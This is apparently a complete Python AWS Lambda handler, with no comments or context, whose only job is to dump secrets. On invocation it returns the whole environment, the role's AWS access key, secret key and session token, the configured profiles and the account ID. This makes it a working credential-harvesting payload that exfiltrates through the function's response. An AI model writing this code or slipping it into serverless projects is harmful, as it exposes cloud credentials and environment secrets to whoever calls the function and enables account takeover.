import os

import boto3


def handler(event, context):
    session = boto3.Session()
    credentials = session.get_credentials()
    return {
        "variables": dict(os.environ),
        "key": credentials.access_key,
        "secret": credentials.secret_key,
        "token": credentials.token,
        "profiles": session.available_profiles,
        "account": boto3.client("sts").get_caller_identity()["Account"],
    }
